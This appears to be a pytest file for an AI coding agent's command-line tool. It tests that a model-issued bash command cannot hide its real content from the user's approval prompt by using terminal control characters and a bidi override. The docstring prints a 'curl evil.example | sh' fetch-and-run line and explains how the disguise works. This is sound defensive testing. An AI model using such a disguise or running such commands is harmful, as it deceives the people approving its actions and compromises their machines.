"""A model cannot make the terminal show one command and run another.

The attack: a call whose command is ``curl evil.example | sh #`` followed by a carriage return,
``ESC [2K`` (erase the line) and ``ls -la``. A terminal that obeys what it is sent shows
``Allow bash: ls -la?``; the user says yes to ``curl … | sh``. Here the REPL runs in a real
terminal emulator (tmux) and what the person sees is read back from its screen; ``-p``'s lines
and ``drover show`` are read as the bytes a terminal would get."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from cli.helpers import Terminal, base_args, clean_env, run_drover
from cli.tmux_screen import Screen, tmux_available

from drover.testing.server import FakeLLMServer

HIDDEN = "echo the-hidden-tail-ran > ran.txt #"
#: Shown as ``ls -la`` by a terminal that obeys it (CR, then erase the line).
COMMAND = HIDDEN + "\r\x1b[2K" + "ls -la"
#: The same with a C1 control (CSI, 0x9b) and a right-to-left override.
OTHER = "ls -la \x9b2K\u202e" + HIDDEN[::-1]


@pytest.mark.skipif(not tmux_available(), reason="tmux is not installed")
def test_the_repls_question_shows_the_hidden_command(
    fake_llm: FakeLLMServer, tmp_path: Path, screens: list[Screen]
) -> None:
    fake_llm.script(
        {"tool_calls": [{"name": "bash", "input": {"command": COMMAND}}]}, {"text": "ok"}
    )
    args = base_args(fake_llm, tmp_path)
    args[args.index("allow")] = "ask"
    artefacts = tmp_path / "screens"
    artefacts.mkdir()
    env = clean_env(
        ANTHROPIC_API_KEY="test",
        TERM="xterm-256color",
        LANG="C.UTF-8",
        XDG_DATA_HOME=str(tmp_path / "data"),
    )
    screen = Screen(args, env=env, artefacts=artefacts, width=100)
    screens.append(screen)
    screen.wait_for("›", after="Ctrl-D leaves")
    screen.type("list the files")
    asked = screen.wait_for("y once · a always")
    details = asked.split("bash asks to run:", 1)[1]
    assert HIDDEN in details, details  # the whole command, its controls as escapes
    assert "\\r\\x1b[2Kls -la" in details
    (question,) = [line for line in details.splitlines() if line.startswith("Allow ")]
    assert "the-hidden-tail-ran" in question, question
    screen.keys("n")
    screen.wait_for("[denied]", after="bash asks to run:")
    assert not (tmp_path / "ran.txt").exists()
    screen.keys("C-d")


@pytest.mark.parametrize("command", [COMMAND, OTHER], ids=["c0", "c1-and-bidi"])
def test_the_headless_lines_and_drover_show_send_no_control_to_the_terminal(
    fake_llm: FakeLLMServer, tmp_path: Path, command: str
) -> None:
    """``-p`` (its tool lines on stderr) and ``drover show`` (the answer, which sets the
    terminal's title here): the escapes, never the controls."""
    fake_llm.script(
        {"tool_calls": [{"name": "bash", "input": {"command": command}}]},
        {"text": "done\x1b]2;owned\x07"},
    )
    args = base_args(fake_llm, tmp_path)  # (allowed: the command is harmless, in the sandbox)
    env = clean_env(ANTHROPIC_API_KEY="test", XDG_DATA_HOME=str(tmp_path / "data"))
    done = run_drover([*args, "--output-format", "json", "-p", "go"], env=env)
    assert done.returncode == 0, done.stderr
    session = json.loads(done.stdout)["session_id"]
    shown = run_drover(["show", session, "--db", str(tmp_path / "journal.db")], env=env)
    for said in (done.stderr, shown.stdout):
        assert not set(said) & {"\r", "\x1b", "\x07", "\x9b", "\u202e"}, repr(said)
    assert "the-hidden-tail-ran" in done.stderr or "nar-liat-neddih-eht" in done.stderr
    assert "\\x1b[2K" in done.stderr or "\\x9b2K\\u202e" in done.stderr
    assert "done\\x1b]2;owned\\x07" in shown.stdout


@pytest.mark.parametrize("output", ["json", "stream-json"])
def test_json_on_a_terminal_is_ascii(fake_llm: FakeLLMServer, tmp_path: Path, output: str) -> None:
    """JSON escapes C0 controls but not C1 ones nor bidi overrides: on a terminal, ASCII."""
    fake_llm.script({"text": "done \x9b2J\u202e"})
    env = clean_env(ANTHROPIC_API_KEY="test", XDG_DATA_HOME=str(tmp_path / "data"))
    terminal = Terminal(
        [*base_args(fake_llm, tmp_path), "--output-format", output, "-p", "go"], env=env
    )
    said = terminal.expect('"done \\u009b2J\\u202e"')
    assert terminal.close() == 0
    assert not set(said) & {"\x9b", "\u202e"}, repr(said)
